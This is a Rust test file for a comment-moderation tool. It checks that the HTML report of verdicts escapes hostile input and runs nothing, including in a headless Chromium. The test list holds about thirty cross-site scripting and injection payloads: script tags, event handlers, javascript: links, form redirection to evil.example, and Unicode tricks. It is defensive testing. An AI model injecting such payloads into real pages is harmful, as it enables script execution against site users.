//! The HTML of verdicts on text made to break it: nothing executes, nothing loads, everything is shown.

#![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "a test stops where something is missing")]

use std::fmt::Write;
use std::path::PathBuf;
use std::process::Command;

use moderato::comment::{Block, BlockPlace, Comment, Page, Status};
use moderato::number::{Probability, Threshold};
use moderato::policy::checks::Surroundings;
use moderato::policy::{Case, Decider, Guidelines, HeadName, UncheckedGuidelines, Verdict, tokens_of};
use moderato::report::verdict::{Sheet, text};
use moderato::report::{verdict_html::html, verdict_jsonl::jsonl};

/// Text written to execute, load, restyle or reorder. Each that runs would set the title to `pwned`.
const HOSTILE: &[&str] = &[
    "<script>document.title='pwned'</script>",
    "</div></article><script>document.title='pwned'</script>",
    "<img src=x onerror=\"document.title='pwned'\">",
    "<svg onload=document.title='pwned'>",
    "\"><svg/onload=document.title='pwned'>",
    "' autofocus onfocus=document.title='pwned' x='",
    "<iframe srcdoc=\"<script>parent.document.title='pwned'</script>\"></iframe>",
    "<a href=\"javascript:document.title='pwned'\">x</a>",
    "javascript:document.title='pwned'",
    "<style>@import 'http://evil.example/x.css'; body{display:none}</style>",
    "</style><script>document.title='pwned'</script>",
    "</title><script>document.title='pwned'</script>",
    "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>document.title='pwned'</script>\">",
    "<base href=\"http://evil.example/\"><form action=//evil.example><input name=q>",
    "<!--<script>document.title='pwned'</script>-->",
    "<![CDATA[<script>document.title='pwned'</script>]]>",
    "&lt;script&gt;document.title='pwned'&lt;/script&gt;",
    "&#60;script&#62;document.title='pwned'&#60;/script&#62;",
    "+ADw-script+AD4-document.title='pwned'+ADw-/script+AD4-",
    "\u{0}<scr\u{0}ipt>document.title='pwned'</scr\u{0}ipt>",
    "<scr<script>ipt>document.title='pwned'</scr</script>ipt>",
    "<math><mtext><table><mglyph><style><img src=x onerror=document.title='pwned'>",
    "<template><script>document.title='pwned'</script></template>",
    "<details open ontoggle=document.title='pwned'>x</details>",
    "`${document.title='pwned'}` {{constructor.constructor('document.title=1')()}}",
    "\u{202e}drawkcab ni gnihtyreve\u{202c} \u{2066}isolate",
    "\u{feff}\u{200b}<b\u{200b}>not bold</b>",
    "a\r\n\r\n<b>second</b>\u{2028}third\u{2029}fourth",
    "zalgo h\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}e comes",
    "x\u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466} \u{1f1e9}\u{1f1ea}",
];

fn page() -> Page {
    let mut comments: Vec<Comment> = HOSTILE
        .iter()
        .enumerate()
        .map(|(i, text)| Comment {
            id: format!("c{i}"),
            author: Some((*text).to_owned()),
            parent: (i > 0).then(|| format!("c{}", i - 1)),
            reply_to: Some((*text).to_owned()),
            time: Some((*text).to_owned()),
            text: (*text).to_owned(),
            ..Comment::default()
        })
        .collect();
    // Two comments that answer each other: a damaged page.
    comments[0].parent = Some(String::from("c1"));
    comments[5].id = String::from("x\" onmouseover=\"document.title='pwned'");
    Page {
        status: Status::Comments,
        system: None,
        title: Some(HOSTILE[11].to_owned()),
        language: Some("\"><script>document.title='pwned'</script>".to_owned()),
        comments,
        next: None,
        blocks: vec![Block { text: String::new(), offsets: vec![0], place: BlockPlace::Article }],
        source: String::new(),
    }
}

/// Guidelines as hostile as the comments: an edited file is no safer than a page.
fn decider(heads: &[HeadName]) -> Decider {
    let mut file = String::from("format = \"moderato-guidelines\"\nversion = 1\n");
    for (i, text) in HOSTILE.iter().enumerate() {
        let quoted = serde_json::to_string(text).unwrap();
        let quoted = quoted.replace("\\u0000", "\\u0001");
        let _ = write!(
            file,
            "[[rule]]\nid = \"r{i}\"\ncategory = \"other\"\ntitle = {quoted}\nquote = {quoted}\nstatement = {quoted}\nsource = {quoted}\naction = \"review\"\njudge = [{{ exact = [\"<\", \"script\", \"'\", \"&\"] }}]\n"
        );
    }
    Decider::new(UncheckedGuidelines::parse("hostile", &file).unwrap().check(heads).unwrap(), heads)
}

fn verdicts(decider: &Decider, page: &Page) -> Vec<Verdict> {
    let (around, thread) = Surroundings::with_thread(page);
    page.comments
        .iter()
        .enumerate()
        .map(|(index, comment)| {
            let tokens = tokens_of(&comment.text);
            let case = Case {
                comment,
                index,
                probabilities: &[],
                passages: &[],
                around: &around,
                thread: &thread,
                tokens: &tokens,
            };
            decider.decide(&comment.text, &case)
        })
        .collect()
}

fn sheet<'a>(page: &'a Page, guidelines: &'a Guidelines, verdicts: &'a [Verdict]) -> Sheet<'a> {
    Sheet {
        name: HOSTILE[4],
        page,
        guidelines,
        rules_from: HOSTILE[2],
        heads: &[],
        model: HOSTILE[3],
        verdicts,
    }
}

fn hostile_html() -> String {
    let (page, decider) = (page(), decider(&[]));
    let verdicts = verdicts(&decider, &page);
    assert!(verdicts.iter().filter(|v| !v.reasons.is_empty()).count() > HOSTILE.len() / 2);
    let sheet = sheet(&page, decider.guidelines(), &verdicts);
    assert_eq!(jsonl(&sheet).unwrap().lines().count(), HOSTILE.len());
    assert!(!text(&sheet).contains(['\u{202e}', '\u{0}', '\r']));
    html(&[sheet])
}

#[test]
fn hostile_text_leaves_no_tag_attribute_or_script_in_the_html() {
    let html = hostile_html();
    // Every tag in the file is one the report writes itself.
    let own = [
        "!doctype", "html", "head", "meta", "title", "style", "body", "main", "section", "h1", "h2", "p",
        "b", "br", "ol", "li", "a", "span", "details", "summary", "ul", "div", "article", "header", "time",
        "mark", "sup", "small", "q",
    ];
    for (at, _) in html.match_indices('<') {
        let tag: String = html[at + 1..]
            .trim_start_matches('/')
            .chars()
            .take_while(|c| !c.is_whitespace() && *c != '>')
            .collect();
        assert!(own.contains(&tag.as_str()), "a tag that is not ours: {tag}");
    }
    for attribute in [" on", " style=", " src=", "javascript:\"", "href=\"http"] {
        let tags = html.split('<').skip(1).filter_map(|t| t.split_once('>')).map(|(tag, _)| tag);
        assert!(tags.into_iter().all(|t| t.starts_with("style") || !t.contains(attribute)), "{attribute}");
    }
    assert!(!html.contains('\u{202e}') && !html.contains('\u{0}'));
    assert!(html.contains("default-src 'none'") && !html.contains("unsafe"));
}

fn chromium() -> Option<&'static str> {
    let works = |name: &&str| Command::new(name).arg("--version").output().is_ok_and(|o| o.status.success());
    ["chromium", "chromium-browser", "google-chrome"].into_iter().find(works)
}

#[test]
fn nothing_executes_in_a_browser() {
    let Some(browser) = chromium() else {
        eprintln!("skipped: no chromium on this machine");
        return;
    };
    let folder = tempfile::tempdir().unwrap();
    let file: PathBuf = folder.path().join("verdicts.html");
    std::fs::write(&file, hostile_html()).unwrap();
    let profile = folder.path().join("profile");
    let out = Command::new(browser)
        .args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"])
        .args(["--disable-background-networking", "--disable-component-update", "--disable-sync"])
        .args(["--virtual-time-budget=3000", "--dump-dom"])
        .arg(format!("--user-data-dir={}", profile.display()))
        .arg(format!("file://{}", file.display()))
        .output()
        .unwrap();
    let dom = String::from_utf8_lossy(&out.stdout).into_owned();
    if dom.trim().is_empty() {
        eprintln!("skipped: chromium does not run here: {}", String::from_utf8_lossy(&out.stderr));
        return;
    }
    let title = dom.split("<title>").nth(1).and_then(|t| t.split("</title>").next()).unwrap_or_default();
    assert!(title.starts_with("&lt;/title&gt;"), "the title is still the page's own: {title}");
    for element in ["<script", "<img", "<svg", "<iframe", "<form", "<base", "<math", "<template"] {
        assert!(!dom.contains(element), "{element} became an element");
    }
    // One article a comment: nothing closed early.
    assert_eq!(dom.matches("<article ").count(), HOSTILE.len());
}

/// The model's heads are not needed for any of this.
#[test]
fn a_head_that_is_not_sure_says_so() {
    let heads = [HeadName { name: "insult".to_owned(), threshold: Threshold(0.3) }];
    let decider = Decider::new(Guidelines::default_set(&heads), &heads);
    let page = Page {
        comments: vec![Comment { id: "c1".into(), text: "Hm.".into(), ..Comment::default() }],
        ..page()
    };
    let (around, thread) = Surroundings::with_thread(&page);
    let tokens = tokens_of("Hm.");
    let case = Case {
        comment: &page.comments[0],
        index: 0,
        probabilities: &[Probability(0.4)],
        passages: &[],
        around: &around,
        thread: &thread,
        tokens: &tokens,
    };
    let verdicts = [decider.decide("Hm.", &case)];
    let names = ["insult".to_owned()];
    let sheet = Sheet { heads: &names, ..sheet(&page, decider.guidelines(), &verdicts) };
    let shown = text(&sheet);
    assert!(shown.contains("head insult, probability 0.40, threshold 0.50, not sure"), "{shown}");
    assert!(shown.contains("No hate against groups: for a person"), "{shown}");
}
